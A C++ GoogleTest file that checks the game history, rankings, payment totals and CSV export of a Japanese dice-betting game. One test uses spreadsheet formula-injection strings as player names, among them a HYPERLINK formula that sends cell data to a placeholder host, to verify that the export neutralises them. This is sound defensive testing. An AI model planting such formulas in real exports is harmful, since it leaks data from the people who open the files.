#include "game/GameHistory.h"
#include "game/HandRanking.h"
#include "game/HistoryTable.h"
#include "game/Settlement.h"
#include "game/Standings.h"

#include <QRandomGenerator>

#include <gtest/gtest.h>

namespace {

using Faces = std::array<qint16, 3>;
using Bets = std::array<qint16, 6>;
using Scores = std::array<qint64, 6>;

const QStringList fourNames{"太郎", "花子", "次郎", "桜"};

// One settled turn in which each listed seat threw once with the given hand value.
void playTurn(GameHistory& history, int banker, const Bets& bets, const QList<qint16>& values, const Scores& after)
{
    history.openTurn(banker, bets);
    for (int seat = 0; seat < values.size(); ++seat) {
        if (values[seat] != 0)
            history.addThrow(seat, Faces{1, 2, 3}, values[seat], QString::number(values[seat]));
    }
    history.settle(after);
}

}  // namespace

TEST(GameHistory, EqualScoresShareARankAndTheNextRankSkips)
{
    const struct {
        Scores scores;
        QList<int> seatsInOrder, ranks;
    } cases[] = {
        {{1200, 900, 1200, 700}, {0, 2, 1, 3}, {1, 1, 3, 4}},
        {{800, 1000, 1000, 1000}, {1, 2, 3, 0}, {1, 1, 1, 4}},
        {{1000, 1000, 1000, 1000}, {0, 1, 2, 3}, {1, 1, 1, 1}},
        {{-50, 0, 2000, 0}, {2, 1, 3, 0}, {1, 2, 2, 4}},
    };
    for (const auto& c : cases) {
        GameHistory history;
        history.start(fourNames, 1000);
        playTurn(history, 0, {0, 10, 10, 10}, {}, c.scores);
        const QList<SeatStanding> table = standings(history);
        ASSERT_EQ(table.size(), 4);
        for (int i = 0; i < 4; ++i) {
            EXPECT_EQ(table[i].seat, c.seatsInOrder[i]) << i;
            EXPECT_EQ(table[i].rank, c.ranks[i]) << i;
            EXPECT_EQ(table[i].gain, c.scores[table[i].seat] - 1000) << i;
        }
    }
}

TEST(GameHistory, PaymentsOfEveryTurnAddUpToZeroAndChainTheScores)
{
    SettingsRecord settings;
    const qint16 hands[] = {1, 5, 11, 16, 20, 34, 36, 39, 50, 51, 60, 70};
    QRandomGenerator random(7);
    for (int ninzu = 2; ninzu <= 6; ++ninzu) {
        GameHistory history;
        history.start(QStringList(ninzu, QStringLiteral("席")), 500);
        Scores scores{};
        scores.fill(500);
        for (int number = 0; number < 40; ++number) {
            rules::TurnHands turn;
            turn.ninzu = ninzu;
            turn.oyaSeat = number % ninzu;
            turn.oyaThrown = random.bounded(3) == 0;
            for (int seat = 0; seat < ninzu; ++seat) {
                turn.bet[seat] = seat == turn.oyaSeat ? 0 : qint16(10 * random.bounded(1, 11));
                turn.yakuValue[seat] = hands[random.bounded(int(std::size(hands)))];
            }
            history.openTurn(turn.oyaSeat, turn.bet);
            for (int seat = 0; seat < ninzu; ++seat)
                history.addThrow(seat, Faces{1, 1, 1}, turn.yakuValue[seat], QString());
            const Scores before = scores;
            scores = rules::settleTurn(turn, scores, settings).score;
            history.settle(scores);

            const TurnRecord& recorded = history.turns().last();
            qint64 sum = 0;
            for (int seat = 0; seat < ninzu; ++seat) {
                EXPECT_EQ(recorded.seats[seat].payment, scores[seat] - before[seat]);
                EXPECT_EQ(recorded.seats[seat].score, scores[seat]);
                sum += recorded.seats[seat].payment;
            }
            EXPECT_EQ(sum, 0) << "turn " << recorded.number << " of " << ninzu << " seats";
        }
        EXPECT_EQ(history.scores(), QList<qint64>(scores.begin(), scores.begin() + ninzu));
        const QList<QList<QPointF>> lines = historyTable::scoreLines(history);
        ASSERT_EQ(lines.size(), ninzu);
        for (int seat = 0; seat < ninzu; ++seat) {
            ASSERT_EQ(lines[seat].size(), 41);
            EXPECT_EQ(lines[seat].first(), QPointF(0, 500));
            EXPECT_EQ(lines[seat].last(), QPointF(40, double(scores[seat])));
        }
    }
}

TEST(GameHistory, BestHandIsTheLowestValueOfSettledTurnsAndBankerTurnsCountSettledTurns)
{
    GameHistory history;
    history.start(fourNames, 1000);
    // Seat 1: 役なし, then 1の目, then (unsettled) シゴロ. Seat 2 never throws; seat 3 only the
    // 3x 1のゾロ目 (70), which is weaker than every other hand.
    playTurn(history, 0, {0, 10, 10, 10}, {rules::HandValue::Shigoro, 50, 0, 70}, {1000, 1000, 1000, 1000});
    playTurn(history, 0, {0, 10, 10, 10}, {36, 39, 0, 0}, {1000, 1000, 1000, 1000});
    playTurn(history, 1, {10, 0, 10, 10}, {60, 0, 0, 0}, {1000, 1000, 1000, 1000});
    history.openTurn(2, {10, 10, 0, 10});
    history.addThrow(1, Faces{4, 5, 6}, rules::HandValue::Shigoro, QStringLiteral("シゴロ"));

    QList<SeatStanding> table = standings(history);
    std::sort(table.begin(), table.end(), [](const auto& a, const auto& b) { return a.seat < b.seat; });
    const struct { int bankerTurns; qint16 best; } expected[] = {{2, 20}, {1, 39}, {0, 0}, {0, 70}};
    for (int seat = 0; seat < 4; ++seat) {
        EXPECT_EQ(table[seat].bankerTurns, expected[seat].bankerTurns) << seat;
        EXPECT_EQ(table[seat].bestHand, expected[seat].best) << seat;
    }
    EXPECT_EQ(table[1].bestHandName, "39");
}

TEST(GameHistory, CallsOutOfOrderOrForOtherSeatsAreIgnoredAndANewGameForgetsTheLast)
{
    GameHistory history;
    history.addThrow(0, Faces{1, 2, 3}, 60, "ヒフミ");
    history.settle({1, 2, 3, 4, 5, 6});
    history.openTurn(0, {});
    EXPECT_TRUE(history.turns().isEmpty());

    history.start(fourNames, 1000);
    history.openTurn(4, {});  // no such seat
    history.settle({1, 2, 3, 4, 5, 6});
    EXPECT_TRUE(history.turns().isEmpty());
    history.openTurn(1, {10, 20, 30, 40});
    history.addThrow(-1, Faces{1, 2, 3}, 60, "ヒフミ");
    history.addThrow(4, Faces{1, 2, 3}, 60, "ヒフミ");
    history.settle({990, 1030, 970, 1010});
    history.settle({0, 0, 0, 0});  // nothing open any more
    ASSERT_EQ(history.turns().size(), 1);
    EXPECT_EQ(history.turns()[0].seats[1].bet, 0);  // the banker bets nothing
    EXPECT_EQ(history.scores(), (QList<qint64>{990, 1030, 970, 1010}));
    history.finish();
    history.openTurn(2, {});
    EXPECT_EQ(history.turns().size(), 1);

    history.start({"A", "B"}, 300);
    EXPECT_FALSE(history.finished());
    EXPECT_TRUE(history.turns().isEmpty());
    EXPECT_EQ(history.scores(), (QList<qint64>{300, 300}));
}

TEST(GameHistory, CsvQuotesNamesWithCommasQuotesAndLineBreaks)
{
    const struct { QString text, field; } cases[] = {
        {"太郎", "太郎"},
        {"Smith, J.", "\"Smith, J.\""},
        {"\"Lucky\" 花子", "\"\"\"Lucky\"\" 花子\""},
        {"二\n行", "\"二\n行\""},
        {"", ""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(historyTable::csvField(c.text), c.field) << c.text.toStdString();

    GameHistory history;
    history.start({"Smith, J.", "\"Lucky\""}, 1000);
    history.openTurn(0, {0, 50});
    history.addThrow(0, Faces{2, 4, 6}, 50, "役なし");
    history.addThrow(0, Faces{9, 9, 9}, 51, "場　外");
    history.settle({1050, 950});
    history.openTurn(1, {30, 0});
    history.setReasons({"博徒: 負け 10 の倍 → 20", "計算: 親の有利 +1.03% → 親を続ける"});
    EXPECT_EQ(historyTable::csv(history),
              "ターン,親,名前,出目,役,賭け,支払い,持ち点,理由\r\n"
              "1,親,\"Smith, J.\",2-4-6 / ×-×-×,場　外,,+50,1050,\r\n"
              "1,,\"\"\"Lucky\"\"\",,,50,-50,950,\r\n"
              "2,,\"Smith, J.\",,,30,,,博徒: 負け 10 の倍 → 20\r\n"
              "2,親,\"\"\"Lucky\"\"\",,,,,,計算: 親の有利 +1.03% → 親を続ける\r\n");
}

namespace {

// The fields of CSV text as any reader takes them: quoted fields with doubled quotes, CR LF lines.
QList<QStringList> readCsv(const QString& text)
{
    QList<QStringList> rows{{QString()}};
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted && c == '"' && text.mid(i + 1, 1) == u"\"")
            rows.last().last() += text[++i];
        else if (c == '"')
            quoted = !quoted;
        else if (!quoted && c == ',')
            rows.last().append(QString());
        else if (!quoted && c == '\r' && text.mid(i + 1, 1) == u"\n") {
            ++i;
            rows.append(QStringList{QString()});
        } else
            rows.last().last() += c;
    }
    rows.removeLast();  // after the last line's end
    return rows;
}

}  // namespace

TEST(GameHistory, CsvKeepsFormulaTextsAsTextAndPaymentsAsNumbers)
{
    const struct { QString text, read; } cases[] = {
        {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "'=HYPERLINK(\"http://x/?\"&A1,\"y\")"},
        {"+1", "'+1"},
        {"-Ken-", "'-Ken-"},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "'\r=1"},
        {"a=b", "a=b"},
        {"'quoted", "'quoted"},
        {"太郎", "太郎"},
    };
    for (const auto& c : cases) {
        GameHistory history;
        history.start({c.text, "花子"}, 1000);
        history.openTurn(0, {0, 40});
        history.addThrow(0, Faces{1, 2, 3}, -2, c.text);
        history.settle({1040, 960});
        const QList<QStringList> rows = readCsv(historyTable::csv(history));
        ASSERT_EQ(rows.size(), 3) << c.text.toStdString();
        const QStringList banker = rows[1];
        const QStringList player = rows[2];
        ASSERT_EQ(banker.size(), historyTable::ColumnCount) << c.text.toStdString();
        EXPECT_EQ(banker[historyTable::NameColumn], c.read) << c.text.toStdString();
        EXPECT_EQ(banker[historyTable::HandColumn], c.read) << c.text.toStdString();
        EXPECT_EQ(banker[historyTable::ThrowsColumn], "1-2-3");
        EXPECT_EQ(banker[historyTable::PaymentColumn], "+40");
        EXPECT_EQ(banker[historyTable::ScoreColumn], "1040");
        EXPECT_EQ(player[historyTable::PaymentColumn], "-40");
        EXPECT_EQ(player[historyTable::BetColumn], "40");
        EXPECT_EQ(player[historyTable::NameColumn], "花子");
    }
}

TEST(GameHistory, CsvOfANetworkGameEndsEachRowWithItsTurnsProofAndANewGameForgetsThem)
{
    GameHistory history;
    history.start({"太郎", "花子"}, 1000);
    // The proof of turn 1 comes before its throws are recorded, turn 2 has none.
    history.setProof(1, {QStringLiteral("c0ffee"), QStringLiteral("5eed"), {QString(), QStringLiteral("ab12")},
                         QStringLiteral("17,42"), -1, {}});
    playTurn(history, 0, {0, 40}, {-2, 5}, {1040, 960});
    playTurn(history, 1, {40, 0}, {5, -2}, {1080, 920});
    const QList<QStringList> rows = readCsv(historyTable::csv(history));
    ASSERT_EQ(rows.size(), 5);
    const QStringList proofHeaders{"コミットメント", "シード", "寄与", "ベントの乱数"};
    EXPECT_EQ(rows[0].mid(historyTable::ColumnCount), proofHeaders);
    const QStringList expected[] = {
        {"c0ffee", "5eed", "", "17,42"},
        {"c0ffee", "5eed", "ab12", "17,42"},
        {"", "", "", ""},
        {"", "", "", ""},
    };
    for (int row = 1; row < 5; ++row) {
        ASSERT_EQ(rows[row].size(), historyTable::ProofColumnEnd) << row;
        EXPECT_EQ(rows[row].mid(historyTable::ColumnCount), expected[row - 1]) << row;
        EXPECT_EQ(rows[row][historyTable::ThrowsColumn], "1-2-3") << row;  // the older columns as before
    }

    history.start({"太郎", "花子"}, 1000);
    EXPECT_FALSE(history.hasProofs());
    EXPECT_EQ(history.proof(1), nullptr);
    EXPECT_EQ(readCsv(historyTable::csv(history))[0].size(), historyTable::ColumnCount);
}
